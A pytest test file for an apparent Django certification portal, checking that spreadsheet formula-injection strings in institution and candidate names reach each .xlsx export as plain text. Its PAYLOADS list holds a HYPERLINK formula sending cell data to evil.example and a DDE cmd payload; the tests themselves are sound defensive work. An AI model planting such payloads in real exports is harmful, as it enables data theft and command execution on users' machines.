"""Formula-injection strings typed into the portal reach every .xlsx export as text, never as a live formula
(issue 9 item 5; OWASP "CSV Injection"): each sheet is downloaded from the real page and opened with openpyxl."""
# ruff: noqa: F811  (pytest fixtures imported by name are redefined as arguments)

import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from assessments.models import AssessmentBatch
from assessments.services import (
    ScoreData,
    batch_conduct,
    batch_issue_certificates,
    batch_publish_results,
    batch_report_results,
    candidates_add,
    results_record,
)
from tests.assessments.conftest import filing, person  # noqa: F401  (fixture)
from tests.assessments.test_batches import scheduled  # noqa: F401  (fixture)
from tests.institutions.conftest import draft, occupations, on, people, regions  # noqa: F401

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-1+2",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
}


def assert_all_text(content: bytes, expected: list[str]) -> None:
    """No cell is a formula, no text cell starts with a trigger, and every payload is there, quoted."""
    workbook = load_workbook(io.BytesIO(content))
    seen = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(TRIGGERS), f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
                    seen.append(cell.value)
    for payload in expected:
        assert any(payload.strip() in value for value in seen), f"{payload!r} is not in the sheet at all"


def download(response) -> bytes:
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.fixture
def hostile_issued(scheduled, people):
    """A batch whose institution, candidates and employers are named with formula strings, certificates issued."""
    institution = scheduled.institution
    institution.name = PAYLOADS["hyperlink"]
    institution.save(update_fields=["name"])
    rows = [person(i, name=f"{p}", employer=p) for i, p in enumerate(PAYLOADS.values())]
    candidates_add(batch=scheduled, rows=rows, acting_user=people["inst_user"])
    with on("2026-04-20"):
        batch_conduct(batch=scheduled, acting_user=people["inst_user"])
        batch = AssessmentBatch.objects.get(pk=scheduled.pk)
        results_record(batch=batch, scores=[ScoreData(c.pk, theory=Decimal(80), practical=Decimal(80))
                                            for c in batch.candidates.all()], acting_user=people["inst_user"])
    with on("2026-04-21"):
        batch = batch_publish_results(batch=AssessmentBatch.objects.get(pk=batch.pk), acting_user=people["inst_user"])
    with on("2026-04-28"):
        batch_report_results(batch=batch, acting_user=people["inst_user"])
        batch_issue_certificates(batch=AssessmentBatch.objects.get(pk=batch.pk), acting_user=people["inst_user"])
    return AssessmentBatch.objects.get(pk=batch.pk)


def test_the_certificate_information_export(client, hostile_issued, people):
    client.force_login(people["inst_user"])
    sheet = download(client.get(f"/batches/{hostile_issued.pk}/exports/certificate-info.xlsx"))
    assert_all_text(sheet, [*PAYLOADS.values()])


def test_the_result_summary_export(client, hostile_issued, people):
    client.force_login(people["inst_user"])
    sheet = download(client.get(f"/batches/{hostile_issued.pk}/exports/result-summary.xlsx"))
    assert_all_text(sheet, [PAYLOADS["hyperlink"]])


def test_the_ledger_export_of_the_institution_and_of_the_office(client, hostile_issued, people):
    client.force_login(people["inst_user"])
    assert_all_text(download(client.get("/my/ledger/ledger.xlsx")), [PAYLOADS["hyperlink"]])
    client.force_login(people["city_hefei"])
    url = f"/staff/institutions/{hostile_issued.institution_id}/ledger/ledger.xlsx"
    assert_all_text(download(client.get(url)), [PAYLOADS["hyperlink"]])


def test_the_public_directory_export(client, hostile_issued):
    assert_all_text(download(client.get("/directory/export.xlsx")), [PAYLOADS["hyperlink"]])
